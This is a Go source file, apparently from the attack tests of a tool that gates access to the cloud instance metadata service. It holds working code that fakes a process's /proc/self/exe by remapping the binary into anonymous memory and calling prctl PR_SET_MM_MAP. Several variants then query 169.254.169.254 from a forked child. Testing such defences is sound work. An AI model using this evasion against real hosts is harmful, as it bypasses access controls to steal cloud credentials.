package main

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/imdsgate/imdsgate/test/attacks/ask"
)

// swap exchanges its own /proc/PID/exe for the program with a grant, in a user
// namespace of its own.
func swap([]string) error { return inside(0, "swapped") }

func swapped([]string) error {
	if err := exchange(granted(), false); err != nil {
		return err
	}
	return plain(nil)
}

// exchangeShared has a process that shares this one's memory, and has a user namespace of
// its own, call PR_SET_MM_MAP (shared_amd64.s, shared_arm64.s). It returns its pid or -errno.
func exchangeShared(m unsafe.Pointer, size uintptr) int

// swapShared exchanges it by a process that shares its memory, so that it is in the
// host's user namespace itself.
func swapShared([]string) error {
	if err := exchange(granted(), true); err != nil {
		return err
	}
	return plain(nil)
}

// swapForked does so, and then asks in a child that executes nothing.
func swapForked([]string) error {
	if err := exchange(granted(), true); err != nil {
		return err
	}
	return childAsks()
}

// swapRootForked has the child of swap-root ask.
func swapRootForked(args []string) error {
	if err := exchange(granted(), false); err != nil {
		return err
	}
	uid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := syscall.Setresgid(uid, uid, uid); err != nil {
		return err
	}
	if err := syscall.Setresuid(uid, uid, uid); err != nil {
		return err
	}
	return childAsks()
}

// childAsks has a child, which executes nothing, make a connection of its own and ask.
func childAsks() error {
	answer, err := unix.Mmap(-1, 0, 8192, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_ANONYMOUS)
	if err != nil {
		return err
	}
	fd, err := unix.Open("/dev/null", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	unix.Close(fd) // the next one that is opened has this number
	to := &unix.RawSockaddrInet4{Family: unix.AF_INET, Port: 80 << 8, Addr: [4]byte{169, 254, 169, 254}}
	request := ask.Mine()
	calls := []ask.Call{
		{Trap: unix.SYS_SOCKET, A1: unix.AF_INET, A2: unix.SOCK_STREAM},
		{Trap: unix.SYS_CONNECT, A1: uintptr(fd), A2: uintptr(unsafe.Pointer(to)), A3: unsafe.Sizeof(*to)},
		ask.Write(fd, request),
	}
	for i := range 4 {
		calls = append(calls, ask.Call{Trap: unix.SYS_READ, A1: uintptr(fd), A2: uintptr(unsafe.Pointer(&answer[i*2048])), A3: 2048})
	}
	ready()
	pid, err := ask.Fork(0, calls...)
	if err != nil {
		return err
	}
	time.Sleep(1500 * time.Millisecond)
	unix.Kill(pid, unix.SIGKILL)
	var all []byte
	for i := range 4 {
		all = append(all, bytes.TrimRight(answer[i*2048:(i+1)*2048], "\x00")...)
	}
	ask.ReadBy(func(b []byte) (int, error) { n := copy(b, all); all = all[n:]; return n, nil }).Tell()
	return nil
}

// swapRoot does so as root, and then becomes an ordinary user.
func swapRoot(args []string) error {
	if err := exchange(granted(), false); err != nil {
		return err
	}
	uid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := syscall.Setresgid(uid, uid, uid); err != nil {
		return err
	}
	if err := syscall.Setresuid(uid, uid, uid); err != nil {
		return err
	}
	return plain(nil)
}

// exchange makes the kernel say that this process runs another file: nothing of
// its own file may be mapped for that (prctl(2), PR_SET_MM_EXE_FILE), so all of
// it is moved to memory without a file.
func exchange(path string, shared bool) error {
	if err := unmapFile(); err != nil {
		return err
	}
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	stat, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		return err
	}
	fields := strings.Fields(string(stat[strings.LastIndexByte(string(stat), ')')+2:]))
	field := func(n int) uint64 { // counted as in proc_pid_stat(5)
		v, err := strconv.ParseUint(fields[n-3], 10, 64)
		if err != nil {
			panic(err)
		}
		return v
	}
	brk, _, _ := unix.RawSyscall(unix.SYS_BRK, 0, 0, 0)
	m := struct { // struct prctl_mm_map, linux/prctl.h
		startCode, endCode, startData, endData, startBrk, brk, startStack, argStart, argEnd, envStart, envEnd uint64
		auxv                                                                                                  uint64
		auxvSize, exe                                                                                         uint32
	}{field(26), field(27), field(45), field(46), field(47), uint64(brk), field(28), field(48), field(49), field(50), field(51), 0, 0, uint32(fd)}
	if shared {
		pid := exchangeShared(unsafe.Pointer(&m), unsafe.Sizeof(m))
		if pid < 0 {
			return fmt.Errorf("%w: clone with a user namespace: %v", errUnavailable, unix.Errno(-pid))
		}
		if err := ask.Wait(pid); err != nil {
			return fmt.Errorf("PR_SET_MM_MAP: %w", err)
		}
	} else if _, _, errno := unix.RawSyscall6(unix.SYS_PRCTL, unix.PR_SET_MM, unix.PR_SET_MM_MAP, uintptr(unsafe.Pointer(&m)), unsafe.Sizeof(m), 0, 0); errno != 0 {
		return fmt.Errorf("PR_SET_MM_MAP: %w", errno)
	}
	if now, err := os.Readlink("/proc/self/exe"); err != nil || now != path {
		return fmt.Errorf("/proc/self/exe is %s, %w", now, err)
	}
	return nil
}

// unmapFile puts a copy without a file in the place of each part of this
// program. The other threads sleep, with the garbage collector off; what they
// might write in these microseconds would be lost.
func unmapFile() error {
	self, err := os.Readlink("/proc/self/exe")
	if err != nil {
		return err
	}
	maps, err := os.ReadFile("/proc/self/maps")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(maps)) {
		f := strings.Fields(line)
		if len(f) < 6 || f[5] != self {
			continue
		}
		var start, end uintptr
		if _, err := fmt.Sscanf(f[0], "%x-%x", &start, &end); err != nil {
			return err
		}
		protection := uintptr(unix.PROT_READ)
		if f[1][1] == 'w' {
			protection |= unix.PROT_WRITE
		}
		if f[1][2] == 'x' {
			protection |= unix.PROT_EXEC
		}
		size := end - start
		to, _, errno := unix.RawSyscall6(unix.SYS_MMAP, 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS, ^uintptr(0), 0)
		if errno != 0 {
			return fmt.Errorf("mmap: %w", errno)
		}
		copy(unsafe.Slice((*byte)(pointer(to)), size), unsafe.Slice((*byte)(pointer(start)), size))
		if _, _, errno := unix.RawSyscall(unix.SYS_MPROTECT, to, size, protection); errno != 0 {
			return fmt.Errorf("mprotect: %w", errno)
		}
		if _, _, errno := unix.RawSyscall6(unix.SYS_MREMAP, to, size, size, unix.MREMAP_MAYMOVE|unix.MREMAP_FIXED, start, 0); errno != 0 {
			return fmt.Errorf("mremap: %w", errno)
		}
	}
	return nil
}

// pointer is to memory that is not Go's.
func pointer(address uintptr) unsafe.Pointer { return *(*unsafe.Pointer)(unsafe.Pointer(&address)) }
